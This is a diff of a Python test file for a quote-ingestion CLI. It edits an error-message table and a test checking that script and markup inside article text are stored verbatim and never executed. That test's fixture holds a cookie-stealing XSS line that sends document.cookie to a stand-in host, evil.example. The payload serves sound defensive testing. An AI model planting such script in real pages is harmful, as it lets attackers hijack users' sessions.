@@ -102,7 +102,7 @@ JSON_LINES = {
     2: "not valid JSON (Invalid control character at column 55).",
     3: "the 'content' field is a float, not text; name the text field with --field text=NAME.",
     4: "the 'content' field is a list, not text; name the text field with --field text=NAME.",
-    5: "the 'content' field is missing; name the text field with --field text=NAME.",
+    5: "the 'content' field is null, not text; name the text field with --field text=NAME.",
     6: "the 'content' field is a bool, not text; name the text field with --field text=NAME.",
     7: "the 'content' field is a dict, not text; name the text field with --field text=NAME.",
     9: "not valid JSON (Expecting property name enclosed in double quotes at column 2).",
@@ -194,7 +194,7 @@ def test_odd_but_readable_text_is_stored_verbatim(tmp_path, name, encoding):
 def test_script_and_markup_in_article_text_are_stored_verbatim_never_run(tmp_path):
     folder = folder_with(tmp_path, "script_in_prose.txt", corpus("script_in_prose.txt"))
     assert ingest(folder).exit_code == 0
-    result = CliRunner().invoke(cli, ["quotes", "--json"], env=ENV)
+    result = CliRunner().invoke(cli, ["quotes", "--nl"], env=ENV)
     texts = [json.loads(line)["text"] for line in result.output.splitlines()]
     assert "<script>fetch('https://evil.example/'+document.cookie)</script> Sanksi terhadap Rusia terbukti sia-sia," in texts
     assert "Kami tidak takut ancaman [bold]apa pun[/bold]," in texts
